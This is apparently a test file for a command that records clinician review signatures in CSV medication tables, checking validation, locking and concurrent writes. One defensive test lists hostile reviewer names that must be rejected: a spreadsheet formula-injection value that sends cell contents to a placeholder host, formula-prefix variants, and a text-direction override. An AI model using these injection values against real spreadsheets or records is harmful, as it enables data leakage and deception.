"""A signature changes three cells of a row and nothing else of the file."""

from __future__ import annotations

import csv
import subprocess
from datetime import date, timedelta

import pytest

from riktig.cli import main
from riktig.clinical.declared import declaration
from riktig.clinical.signing import name_of, signed
from riktig.clinical.tables import TABLES, rows
from riktig.commands.alone import alone_in
from riktig.commands.checkout import table_file

CELLS = {"reviewed_by": "Kari, lege", "reviewed_on": "2026-11-22", "next_review": "2027-05-22"}


def written(table):
    with table_file(table).open(encoding="utf-8", newline="") as lines:
        return lines.read()


@pytest.mark.parametrize("table", [name for name in TABLES if name != "sources"])
def test_only_the_three_cells_of_the_row_change(table):
    before = written(table)
    last = len(rows(table)) - 1
    after = signed(before, [last], CELLS)
    old, new = before.splitlines(keepends=True), after.splitlines(keepends=True)
    assert [line for line in new if line not in old] == new[-1:]
    assert old[:-1] == new[:-1]
    read = list(csv.DictReader(after.splitlines()))
    assert read[last] == {**rows(table)[last], **CELLS}
    assert signed(before, [], CELLS) == before


def test_quotation_marks_blank_lines_and_line_ends_are_kept():
    before = 'a,reviewed_by,b\r\n"x, ""y""",,"1"\r\n\r\nz,,2'
    after = signed(before, [0, 1], {"reviewed_by": "Ola"})
    assert after == 'a,reviewed_by,b\r\n"x, ""y""",Ola,"1"\r\n\r\nz,Ola,2'


TABLE = "methadone_bands"


def read(program, table=TABLE):
    with (program.tables / f"{table}.csv").open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


def test_rows_are_signed_and_shown(program):
    status, printed, said = program.run("sign", TABLE, "HDIR:90", "HDIR:30", "--by", "Kari  Lege")
    assert (status, said) == (0, "")
    found = read(program)
    assert [row["reviewed_by"] for row in found] == ["Kari Lege", "Kari Lege", "", "", ""]
    first = found[0]
    assert date.fromisoformat(first["next_review"]) > date.fromisoformat(first["reviewed_on"])
    assert printed.index("HDIR:30") < printed.index("HDIR:90")
    assert "value 6" in printed
    assert {path.suffix for path in program.tables.glob("methadone_bands*")} == {".csv"}
    # The rest of the program reads what was signed.
    assert "gjennomgått av Kari Lege" in program.run("sources", "--table", TABLE)[1]


@pytest.mark.parametrize(
    "arguments",
    [
        [TABLE, "--by", "Kari", "HDIR:30", "HDIR:90"],
        ["--by", "Kari", TABLE, "HDIR:30", "HDIR:90"],
        [TABLE, "HDIR:30", "--by", "Kari", "HDIR:90"],
        [TABLE, "--by", "Kari", "--", "HDIR:30", "HDIR:90"],
    ],
)
def test_rows_may_stand_after_the_options(program, arguments):
    assert program.run("sign", *arguments)[0] == 0
    assert [row["reviewed_by"] for row in read(program)] == ["Kari", "Kari", "", "", ""]


def test_a_dry_run_writes_nothing(program):
    before = (program.tables / f"{TABLE}.csv").read_bytes()
    status, printed, _ = program.run("sign", TABLE, "--all", "--by", "Kari Lege", "--dry-run")
    assert status == 0
    assert (program.tables / f"{TABLE}.csv").read_bytes() == before
    assert "Ingenting er skrevet" in printed


TODAY = date.today()
AHEAD = (TODAY + timedelta(days=2)).isoformat()
FAR = (TODAY + timedelta(days=5 * 366 + 2)).isoformat()


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["no_table", "--all", "--by", "Kari"], "finnes ikke"),
        (["sources", "--all", "--by", "Kari"], "finnes ikke"),
        ([TABLE, "HDIR:31", "--by", "Kari"], "HDIR:31"),
        ([TABLE, "--by", "Kari"], "--all"),
        ([TABLE, "HDIR:30", "--all", "--by", "Kari"], "--all"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--on", AHEAD], "har ikke vært"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--on", "22.11.2026"], "ÅÅÅÅ-MM-DD"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--on", "20251122"], "ÅÅÅÅ-MM-DD"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--next", "2020-01-01"], "for tidlig"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--next", TODAY.isoformat()], "for tidlig"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--on", "2015-01-01"], "for tidlig"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--next", FAR], "høyst 5 år"),
        ([TABLE, "HDIR:30", "--by", "Kari", "--next", "9999-12-31"], "høyst 5 år"),
    ],
)
def test_what_cannot_be_signed_is_refused(program, arguments, said):
    before = (program.tables / f"{TABLE}.csv").read_bytes()
    status, _, told = program.run("sign", *arguments)
    assert status == 1
    assert (program.tables / f"{TABLE}.csv").read_bytes() == before
    assert said in told


def test_five_years_ahead_is_not_too_far(program):
    due = TODAY.replace(year=TODAY.year + 5, day=min(TODAY.day, 28)).isoformat()
    assert program.run("sign", TABLE, "--all", "--by", "Kari", "--next", due)[0] == 0


@pytest.mark.parametrize(
    "name",
    [
        "  ",
        "Kari\nLege\x01",
        "01017012345",
        "Kari Lege 010170 12345",
        '=HYPERLINK("http://x.y/?"&A1,"ok")',
        "+Kari",
        "@Kari",
        "\t=Kari",
        "\uff1dKari",
        "Kari\u202eLege",
        "Kari" * 30,
    ],
)
def test_a_name_is_letters(name, capsys):
    assert name_of(name) is None
    assert main(["sign", TABLE, "--all", "--dry-run", f"--by={name}"]) == 1
    said = capsys.readouterr().err
    assert "bare bokstaver" in said
    assert name.strip() not in said or not name.strip()


@pytest.mark.parametrize(
    "name", ["Kari Lege", "\u00c5se-Marit O\u2019Brien", "M. N\u00e6ss, lege", "Ze\u0301 L."]
)
def test_names_there_are(name):
    assert name_of(name)


def test_a_signed_row_is_signed_again_only_when_asked(program):
    command = ["sign", TABLE, "HDIR:30", "--by"]
    assert program.run(*command, "Kari, lege")[0] == 0
    status, _, said = program.run(*command, "Ola Lege")
    assert status == 1
    assert "Kari, lege" in said
    assert program.run(*command, "Ola Lege", "--again")[0] == 0
    assert read(program)[0]["reviewed_by"] == "Ola Lege"


def test_signing_at_the_same_time_loses_nothing(program):
    """Each process holds the table as it was when it began; all of them write."""
    keys = [declaration("opioid_ratios").key_of(row) for row in rows("opioid_ratios")][:6]
    names = [f"Lege {letter}" for letter in "ABCDEF"]
    started = [
        program.start("sign", "opioid_ratios", key, "--by", name)
        for key, name in zip(keys, names, strict=True)
    ]
    for one in started:
        assert one.communicate(timeout=60)[1] == ""
        assert one.returncode == 0
    assert [row["reviewed_by"] for row in read(program, "opioid_ratios")][:6] == names


def test_a_table_is_waited_for(program):
    with alone_in(program.tables):
        waiting = program.start("sign", TABLE, "HDIR:30", "--by", "Kari")
        with pytest.raises(subprocess.TimeoutExpired):
            waiting.communicate(timeout=1.5)
        assert read(program)[0]["reviewed_by"] == ""
    waiting.communicate(timeout=60)
    assert read(program)[0]["reviewed_by"] == "Kari"


def test_a_table_that_cannot_be_written_is_told(program):
    (program.tables / f"{TABLE}.csv.new").mkdir()
    status, _, said = program.run("sign", TABLE, "HDIR:30", "--by", "Ola")
    assert status == 1
    assert "arbeidskopi" in said
    assert read(program)[0]["reviewed_by"] == ""
